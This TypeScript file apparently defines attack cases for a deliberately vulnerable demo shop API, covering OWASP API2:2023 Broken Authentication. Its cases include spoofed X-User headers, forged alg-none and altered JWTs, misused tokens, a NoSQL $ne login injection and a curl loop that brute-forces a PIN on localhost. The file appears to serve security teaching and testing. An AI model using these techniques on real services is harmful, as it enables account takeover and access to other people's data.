/** API2:2023 Broken Authentication. */
import { type Attack, type AttackRequest, lastSays, LIST_ORDERS, type Twin } from "./attack.ts";
import { forgeSubject, forgeUnsigned } from "./forge.ts";

const login = (email: unknown, pin: unknown): AttackRequest => ({ method: "POST", path: "/sessions", body: { email, pin } });
const LOG_IN: Twin = { request: () => login("alice@shop.example", "4711"), status: 201, says: '"token"' };
/** Bob's PIN is 0037. */
const GUESSES = 38;

export const AUTHENTICATION: readonly Attack[] = [
  {
    id: "asserted-user",
    title: "no token, only X-User: bob",
    owasp: "API2:2023",
    flaw: "The shop believes `X-User` from anyone, as if only its gateway could send it.",
    requests: () => [{ method: "GET", path: "/orders", headers: { "x-user": "bob" } }],
    exploited: lastSays(200, '"customer":"bob"'),
    twin: LIST_ORDERS,
  },
  {
    id: "list-as-another",
    title: "alice says in a header that she is bob",
    owasp: "API2:2023",
    flaw: "`X-User` wins over the token, whoever sends it.",
    requests: () => [{ method: "GET", path: "/orders", as: "alice", headers: { "x-user": "bob" } }],
    exploited: lastSays(200, '"customer":"bob"'),
    twin: LIST_ORDERS,
  },
  {
    id: "unsigned-token",
    title: "a token with alg none",
    owasp: "API2:2023",
    flaw: "The bearer token is decoded and not verified.",
    requests: () => [{ method: "GET", path: "/orders", headers: { authorization: `Bearer ${forgeUnsigned("bob")}` } }],
    exploited: lastSays(200, '"customer":"bob"'),
    twin: LIST_ORDERS,
  },
  {
    id: "altered-token",
    title: "alice's token with bob's name in it",
    owasp: "API2:2023",
    flaw: "The signature is not looked at, so claims can be changed under it.",
    requests: ({ tokens }) => [
      { method: "GET", path: "/orders", headers: { authorization: `Bearer ${forgeSubject(tokens.alice, "bob")}` } },
    ],
    exploited: lastSays(200, '"customer":"bob"'),
    twin: LIST_ORDERS,
  },
  {
    id: "token-of-another-api",
    title: "a token issued for the warehouse",
    owasp: "API2:2023",
    flaw: "`aud` is not looked at: a token for any API of the issuer opens this one.",
    requests: () => [{ method: "GET", path: "/orders", as: "aliceElsewhere" }],
    exploited: lastSays(200, '"customer":"alice"'),
    twin: LIST_ORDERS,
  },
  {
    id: "id-token",
    title: "an ID token as access token",
    owasp: "API2:2023",
    flaw: "`typ` is not looked at: what every web page that alice logs in to receives opens the API.",
    requests: () => [{ method: "GET", path: "/orders", as: "aliceIdToken" }],
    exploited: lastSays(200, '"customer":"alice"'),
    twin: LIST_ORDERS,
  },
  {
    id: "token-in-url",
    title: "the token in the URL",
    owasp: "API2:2023",
    flaw: "`?access_token=` is taken, so tokens end in logs, histories and `Referer`.",
    requests: ({ tokens }) => [{ method: "GET", path: `/orders?access_token=${tokens.alice}` }],
    exploited: lastSays(200, '"customer":"alice"'),
    twin: LIST_ORDERS,
  },
  {
    id: "query-operator",
    title: "a query operator in place of the PIN",
    owasp: "API2:2023",
    flaw: "`POST /sessions` hands the PIN to a document query, where `$ne` is an operator.",
    requests: () => [login("admin@shop.example", { $ne: "" })],
    exploited: lastSays(201, '"token"'),
    twin: LOG_IN,
  },
  {
    id: "guess-pin",
    title: "38 guesses at bob's PIN",
    owasp: "API2:2023",
    flaw: "`POST /sessions` takes any number of guesses at four digits.",
    requests: () => Array.from({ length: GUESSES }, (_, pin) => login("bob@shop.example", String(pin).padStart(4, "0"))),
    exploited: lastSays(201, '"token"'),
    twin: LOG_IN,
    shell: `for pin in $(seq -w 0000 0037); do
  curl -X POST http://127.0.0.1:3000/sessions -H 'Content-Type: application/json' -d '{"email":"bob@shop.example","pin":"'$pin'"}'
done`,
  },
];
